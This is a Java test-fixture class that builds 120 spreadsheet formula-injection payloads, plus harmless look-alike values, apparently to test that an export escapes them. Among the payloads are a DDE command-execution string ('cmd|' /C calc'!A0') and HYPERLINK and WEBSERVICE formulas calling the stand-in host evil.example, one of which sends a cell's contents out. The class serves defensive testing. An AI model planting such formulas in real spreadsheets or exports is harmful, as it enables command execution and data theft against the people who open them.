package org.unmask.export;

import java.util.ArrayList;
import java.util.List;

/** What strangers write into cells so that a spreadsheet runs it: 120 payloads, and harmless relatives that must survive too. */
public final class Payloads {
    private static final List<String> BEGINNINGS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");
    private static final List<String> BODIES = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "SUM(1,2)*cmd",
            "WEBSERVICE(\"http://evil.example\")",
            "'quoted'",
            ",second cell",
            "\nsecond line",
            "\"\"",
            "\uD83D\uDE00 and a flag");

    private Payloads() {}

    /** All 120. */
    public static List<String> formulas() {
        List<String> all = new ArrayList<>();
        BEGINNINGS.forEach(beginning -> BODIES.forEach(body -> all.add(beginning + body)));
        return all;
    }

    /** Relatives: what the inverse must not spoil. */
    public static List<String> relatives() {
        return List.of(
                "'=1",
                "''=1",
                "'plain",
                "'",
                "''",
                " =1",
                "a=1",
                "@handle",
                "-100123",
                "\u200B=1",
                "a|b",
                "",
                "\"",
                "x,y",
                "\u2028");
    }
}
